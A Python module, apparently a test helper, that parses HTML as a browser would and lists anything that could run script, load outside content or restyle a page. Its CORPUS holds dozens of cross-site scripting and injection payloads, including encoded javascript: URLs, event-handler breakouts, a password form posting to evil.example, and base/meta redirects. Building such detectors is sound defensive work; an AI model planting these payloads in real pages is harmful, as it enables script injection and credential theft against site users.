"""Reading a page as a browser's parser would, to see what could run, load or confuse."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

VOID = set(["area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"])
ACTIVE = {
    "script", "style", "iframe", "object", "embed", "applet", "base", "meta", "link", "form", "svg", "math", "template",
    "noscript", "frame",
}  # fmt: skip


@dataclass
class Element:
    """A start tag with its attributes and, once it is closed, the text inside."""

    tag: str
    attributes: dict[str, str]
    text: str = ""


@dataclass
class Document(HTMLParser):
    """All elements of a page, in order."""

    source: str
    elements: list[Element] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()
        self._open: list[Element] = []
        self.feed(self.source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, {name: value or "" for name, value in attrs})
        self.elements.append(element)
        if tag not in VOID:
            self._open.append(element)

    def handle_endtag(self, tag: str) -> None:
        for index in range(len(self._open) - 1, -1, -1):
            if self._open[index].tag == tag:
                del self._open[index:]
                return

    def handle_data(self, data: str) -> None:
        for element in self._open:
            element.text += data

    def all(self, *tags: str) -> list[Element]:
        """Elements with one of these tags."""
        return [element for element in self.elements if element.tag in tags]


def dangers(source: str, allowed: frozenset[str] = frozenset()) -> list[str]:
    """What in `source` could run a script, load from elsewhere or dress itself up; empty for a harmless text.

    `allowed` names tags of the page's own frame (its form, its stylesheet link) that are looked at elsewhere.
    """
    found = []
    for element in Document(source).elements:
        if element.tag in ACTIVE - allowed:
            found.append(f"<{element.tag}>")
        for name, value in element.attributes.items():
            if name.startswith("on") or name in ("style", "srcdoc", "srcset", "formaction", "xlink:href", "ping"):
                found.append(f"{element.tag} {name}={value!r}")
            if name in ("href", "src", "action"):
                scheme = urlsplit("".join(value.split())).scheme.lower()
                if scheme not in ("", "http", "https", "mailto") and value != "data:,":
                    found.append(f"{element.tag} {name}={value!r}")
                if name == "src" and (scheme or value.startswith("//")):
                    found.append(f"{element.tag} loads {value!r}")
    return found


class _Nesting(HTMLParser):
    """Every element closed in order; only `html` and `body` tags and void elements need no partner."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if len({name for name, _ in attrs}) != len(attrs):
            self.faults.append(f"<{tag}> has an attribute twice")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.open and self.open[-1] == tag:
            self.open.pop()
        else:
            self.faults.append(f"</{tag}> inside {self.open[-3:]} at {self.getpos()}")


def malformed(source: str) -> list[str]:
    """Where a page's elements are not closed in order; empty for a well-formed page."""
    nesting = _Nesting()
    nesting.feed(source)
    nesting.close()
    return nesting.faults + [f"<{tag}> is never closed" for tag in nesting.open]


CORPUS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/track.gif>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</pre></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```x" onmouseover=alert(1) "\ncode\n```',
    "<!--><img src=x onerror=alert(1)>-->",
    "<h1 id=main onclick=alert(1)>x</h1>",
    "<a name=main id=main>x</a>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "{{ 7|add:7 }}{% now 'Y' %}",
)


_DATA = re.compile(r'<script type="application/ld\+json">([^<>&]*)</script>')


def without_data(source: str) -> str:
    """A page without its scripts that are only data: JSON, with nothing in it that could be markup."""
    for text in _DATA.findall(source):
        json.loads(text)
    return _DATA.sub("", source)


_KEYS = re.compile(r'<script src="/-/keys-[0-9a-f]{12}\.js" defer></script>')


def without_keys(source: str) -> str:
    """A page without the one script of ours, the keys of differences, which it may have once."""
    return _KEYS.sub("", source, count=1)
